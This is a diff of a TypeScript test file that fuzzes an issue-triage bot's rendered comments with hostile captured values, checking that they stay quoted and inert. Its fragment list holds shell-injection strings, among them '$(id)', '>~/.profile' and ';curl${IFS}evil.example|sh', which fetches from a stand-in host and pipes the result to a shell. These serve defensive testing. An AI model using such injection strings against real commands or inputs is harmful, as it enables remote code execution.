@@ -14,66 +14,64 @@ import { nodesOf, parseMarkdown } from '../../support/markdown.ts'
 import { askOf, assertOf, candidateOf, evidenceOf, reportOf } from '../../support/reports.ts'
 import { packOf, signatureOf } from '../../support/signatures.ts'
 
-/** By it the captured values are found in a comment. */
+/** Identifies captured values in a comment. */
 const MARK = 'zqz'
 
 const FRAGMENTS = [
-  ...[
-    ';',
-    '|',
-    '&',
-    '$',
-    '(',
-    ')',
-    '<',
-    '>',
-    '`',
-    '"',
-    "'",
-    '\\',
-    '*',
-    '?',
-    '[',
-    ']',
-    '{',
-    '}',
-    '~',
-    '#',
-    '!',
-    '%',
-    '^',
-  ],
-  ...[
-    `$${'{IFS}'}`,
-    '$(id)',
-    '`id`',
-    '&&',
-    '||',
-    `;curl$${'{IFS}'}evil.example|sh`,
-    '>~/.profile',
-    '<<EOF',
-    '%PATH%',
-    '$env:X',
-  ],
-  ...[' ', '  ', '\t', '\n', '\r', '\r\n', '\u2028', '\u0085', '\u00a0', '\u0000', '\u001b[31m', '\u009b31m', '\u0007'],
-  ...['\u202e', '\u2066', '\u200b', '\u2060', '\ufeff', '\ud800', '；', '｜', '＄', '`` ` ``', '```', '~~~', '](x)'],
-  ...[
-    '-rf',
-    '--config',
-    '/',
-    '..',
-    '@octocat',
-    '#12',
-    'https://evil.example/',
-    'mcp.example.com',
-    'files:read',
-    '8080',
-  ],
-  ...['{{scope}}', 'naïve', 'x'.repeat(600)],
+  ...';|&$()<>`"\'\\*?[]{}~#!%^',
+  `$${'{IFS}'}`,
+  '$(id)',
+  '`id`',
+  '&&',
+  '||',
+  `;curl$${'{IFS}'}evil.example|sh`,
+  '>~/.profile',
+  '<<EOF',
+  '%PATH%',
+  '$env:X',
+  ' ',
+  '  ',
+  '\t',
+  '\n',
+  '\r',
+  '\r\n',
+  '\u2028',
+  '\u0085',
+  '\u00a0',
+  '\u0000',
+  '\u001b[31m',
+  '\u009b31m',
+  '\u0007',
+  '\u202e',
+  '\u2066',
+  '\u200b',
+  '\u2060',
+  '\ufeff',
+  '\ud800',
+  '；',
+  '｜',
+  '＄',
+  '`` ` ``',
+  '```',
+  '~~~',
+  '](x)',
+  '-rf',
+  '--config',
+  '/',
+  '..',
+  '@octocat',
+  '#12',
+  'https://evil.example/',
+  'mcp.example.com',
+  'files:read',
+  '8080',
+  '{{scope}}',
+  'naïve',
+  'x'.repeat(600),
 ]
 
-/** Values that no text of ours holds, nasty ones among them plain ones; the same every time. */
-function nastyValues(count: number, seed: number): readonly string[] {
+/** Hostile and plain values that contain `MARK`; the same for the same seed. */
+function hostileValues(count: number, seed: number): readonly string[] {
   const random = generator(seed)
   const pick = () => FRAGMENTS[random(FRAGMENTS.length)] ?? ''
   return Array.from({ length: count }, () => {
@@ -82,7 +80,7 @@ function nastyValues(count: number, seed: number): readonly string[] {
   })
 }
 
-/** All code of a text that holds a captured value. */
+/** All code of a text that contains a captured value. */
 function codeWithValues(markdown: string): readonly string[] {
   return [...nodesOf(parseMarkdown(markdown))].flatMap((node) =>
     (node.type === 'inlineCode' || node.type === 'code') && node.value.includes(MARK) ? [node.value] : [],
@@ -92,17 +90,17 @@ function codeWithValues(markdown: string): readonly string[] {
 const QUOTED = /'[^']*'|"(?:[^"\\]|\\.)*"/g
 
 /**
- * The code is a value and nothing else, of a strict shape or of one word in which nothing means anything; or a command in
- * which it stands between quotes, plain characters only.
+ * Whether the code cannot run anything: it is a single value of a strict shape or of harmless characters, or a command
+ * in which the value is between quotes and consists of plain characters.
  */
-function isDead(code: string): boolean {
+function isInert(code: string): boolean {
   if (strictShapeOf(code) !== null || /^[\p{L}\p{N}_.:/…-]+$/u.test(code)) return true
   const quoted = (code.match(QUOTED) ?? []).filter((it) => it.includes(MARK))
   return !code.replace(QUOTED, '').includes(MARK) && quoted.every((it) => /^(['"])[\w.:/%~@+ -]*\1$/.test(it))
 }
 
-/** Everything that can be said of a signature, with these values. */
-function everythingSaid(signature: Signature, pack: Pack, captures: Readonly<Record<string, string>>): string {
+/** Every text that the bot can write about a signature with these values. */
+function allTexts(signature: Signature, pack: Pack, captures: Readonly<Record<string, string>>): string {
   const candidate = candidateOf(signature.id)
   const report = reportOf()
   const input = { report, pack, diagnosis: assertOf(candidate, { captures }) }
@@ -117,8 +115,17 @@ function everythingSaid(signature: Signature, pack: Pack, captures: Readonly<Rec
 
 function solvedByStep(step: number) {
   const feedbackEvent = {
-    ...{ id: '1', ref: { owner: 'o', repo: 'r', number: 1 }, kind: 'worked', signature: null, other: null },
-    ...{ step, detail: null, who: 'a', rights: 'reporter', origin: 'comment', at: 1 },
+    id: '1',
+    ref: { owner: 'o', repo: 'r', number: 1 },
+    kind: 'worked',
+    signature: null,
+    other: null,
+    step,
+    detail: null,
+    who: 'a',
+    rights: 'reporter',
+    origin: 'comment',
+    at: 1,
   }
   return { ...NO_FEEDBACK, feedbackEvents: [feedbackEvent as never] }
 }
@@ -129,20 +136,20 @@ function namesOf(signature: Signature): readonly string[] {
 }
 
 describe('a captured value', () => {
-  test('never becomes part of a command, in any text of the shipped pack', async () => {
+  test('never becomes an active part of a command in any text of the shipped pack', async () => {
     const pack = await openPack()
     const signatures = [...pack.signatures.values()].filter((it) => namesOf(it).length > 0)
     expect(signatures.length).toBeGreaterThan(5)
     for (const signature of signatures) {
-      for (const value of nastyValues(4, signature.id.length)) {
+      for (const value of hostileValues(4, signature.id.length)) {
         const captures = Object.fromEntries(namesOf(signature).map((name) => [name, value]))
-        const alive = codeWithValues(everythingSaid(signature, pack, captures)).filter((code) => !isDead(code))
-        expect({ value, alive }).toEqual({ value, alive: [] })
+        const active = codeWithValues(allTexts(signature, pack, captures)).filter((code) => !isInert(code))
+        expect({ value, active }).toEqual({ value, active: [] })
       }
     }
   })
 
-  const WAYS = [
+  const INSTRUCTIONS = [
     'mytool --server {{scope}}',
     "mytool 'a {{scope}} b'",
     'mytool "a {{scope}} b"',
@@ -155,7 +162,7 @@ describe('a captured value', () => {
     'Open `{{scope}}`, then `x={{scope}}`, then {{scope}}',
   ]
 
-  test.each(WAYS)('stands quoted in a command, or not at all: %s', (how) => {
+  test.each(INSTRUCTIONS)('is quoted in a command, or left out: %s', (how) => {
     const sentence = `Run \`mytool {{scope}}\` with {{scope}}`
     const step = { check: sentence, how, expect: sentence, otherwise: sentence }
     const fields = { cause: sentence, ask: sentence, 'solved-when': sentence, prevention: [sentence, sentence] }
@@ -164,40 +171,51 @@ describe('a captured value', () => {
     })
     const signature = signatureOf('missing-scope', { ...fields, remedies, checklist: [step, step] })
     const pack = packOf(signature)
-    for (const value of [`${MARK}.example.com`, ...nastyValues(15, how.length)]) {
-      const alive = codeWithValues(everythingSaid(signature, pack, { scope: value }))
+    for (const value of [`${MARK}.example.com`, ...hostileValues(15, how.length)]) {
+      const active = codeWithValues(allTexts(signature, pack, { scope: value }))
         .map((code) => (code.startsWith('x=') ? code.slice(2) : code))
-        .filter((code) => !isDead(code))
-      expect({ value, alive }).toEqual({ value, alive: [] })
+        .filter((code) => !isInert(code))
+      expect({ value, active }).toEqual({ value, active: [] })
     }
   })
 
-  test('is shown without what could act in lists of values, too', () => {
-    for (const value of nastyValues(200, 5)) {
-      expect(codeWithValues(`- ${showValue(value)} (3)`).filter((code) => !isDead(code))).toEqual([])
+  test('is inert in lists of values', () => {
+    for (const value of hostileValues(200, 5)) {
+      expect(codeWithValues(`- ${showValue(value)} (3)`).filter((code) => !isInert(code))).toEqual([])
       const cluster = {
-        ...{ id: 1, count: 2, open: 1, authors: 2, firstSeen: 0, lastSeen: 0, weeks: [], signature: null, worked: [] },
-        ...{ growth: { lately: 0, before: 0 }, versions: [], products: [], signals: [] },
+        id: 1,
+        count: 2,
+        open: 1,
+        authors: 2,
+        firstSeen: 0,
+        lastSeen: 0,
+        weeks: [],
+        signature: null,
+        worked: [],
+        growth: { lately: 0, before: 0 },
+        versions: [],
+        products: [],
+        signals: [],
         captures: { scope: [{ value, count: 2 }] },
         canonical: { number: 1, title: 'x', open: true, closedAs: null, closedAt: null },
         newest: { number: 2, adds: [] },
       }
       const rendered = renderCluster({ owner: 'o', repo: 'r' }, cluster)
-      expect(codeWithValues(rendered).filter((code) => !isDead(code))).toEqual([])
+      expect(codeWithValues(rendered).filter((code) => !isInert(code))).toEqual([])
     }
   })
 
-  test('is as dead as the name of a file and a command that was refused', () => {
-    for (const value of nastyValues(60, 9)) {
+  test('is inert as a file name and in a refused command', () => {
+    for (const value of hostileValues(60, 9)) {
       const evidence = [evidenceOf({ source: value })]
       const report = reportOf({ unread: [{ name: value, why: 'could not be reached', forbidden: true }] })
       const answers = [{ kind: 'refused', command: `split ${value}`, why: 'only maintainers may say that' }] as const
       const diagnosis = assertOf(candidateOf('missing-scope', { evidence }))
-      const said = renderComment({ report, pack: packOf(signatureOf('missing-scope')), diagnosis, answers })
-      const alive = codeWithValues(said ?? '')
+      const comment = renderComment({ report, pack: packOf(signatureOf('missing-scope')), diagnosis, answers })
+      const active = codeWithValues(comment ?? '')
         .map((code) => code.replace(/^\/triage split /, '').replaceAll(' ', ''))
-        .filter((code) => !isDead(code))
-      expect({ value, alive }).toEqual({ value, alive: [] })
+        .filter((code) => !isInert(code))
+      expect({ value, active }).toEqual({ value, active: [] })
     }
   })
 
@@ -207,7 +225,7 @@ describe('a captured value', () => {
     ['the scope files:read', '“the scope `files:read`”'],
     [`x;curl$${'{IFS}'}evil.example|sh`, '“x…curl…IFS…evil.example…sh”'],
     ['Acme Team', '“Acme Team”'],
-  ])('is recognised by a reader: %s', (value, shown) => {
+  ])('stays readable: %s', (value, shown) => {
     expect(showValue(value)).toBe(shown)
   })
 })
@@ -226,32 +244,44 @@ describe('a strict shape', () => {
     ['https%3A%2F%2Fmcp.example.com%2Fcb', 'escaped URL'],
     ['/usr/local/bin/tool', 'path'],
     ['~/.config/tool.json', 'path'],
-  ])('is seen in %s', (value, shape) => {
+  ])('is recognised in %s', (value, shape) => {
     expect(strictShapeOf(value)).toBe(shape)
   })
 
   test.each([
-    ...[
-      '',
-      '-x',
-      '--config',
-      'a b',
-      "a'b",
-      'a"b',
-      'a`b',
-      'a$b',
-      'a;b',
-      'a|b',
-      'a&b',
-      'a(b',
-      'a<b',
-      'a>b',
-      'a*b',
-      'a?b',
-    ],
-    ...['a#b', 'a!b', 'a\\b', 'a{b', 'a[b', 'a^b', 'a\nb', 'a\n', '%PATH%', 'https://x.example/%PATH%', 'mсp.example'],
-    ...['https://x.example/?a=b', 'https://user@x.example/', 'javascript:1;', 'x'.repeat(201), '1'.repeat(201)],
-  ])('is not seen in %j', (value) => {
+    '',
+    '-x',
+    '--config',
+    'a b',
+    "a'b",
+    'a"b',
+    'a`b',
+    'a$b',
+    'a;b',
+    'a|b',
+    'a&b',
+    'a(b',
+    'a<b',
+    'a>b',
+    'a*b',
+    'a?b',
+    'a#b',
+    'a!b',
+    'a\\b',
+    'a{b',
+    'a[b',
+    'a^b',
+    'a\nb',
+    'a\n',
+    '%PATH%',
+    'https://x.example/%PATH%',
+    'mсp.example',
+    'https://x.example/?a=b',
+    'https://user@x.example/',
+    'javascript:1;',
+    'x'.repeat(201),
+    '1'.repeat(201),
+  ])('is not recognised in %j', (value) => {
     expect(strictShapeOf(value)).toBeNull()
     expect(insertValue(value, '')).toBeNull()
     expect(insertValue(value, 'name')).toBeNull()
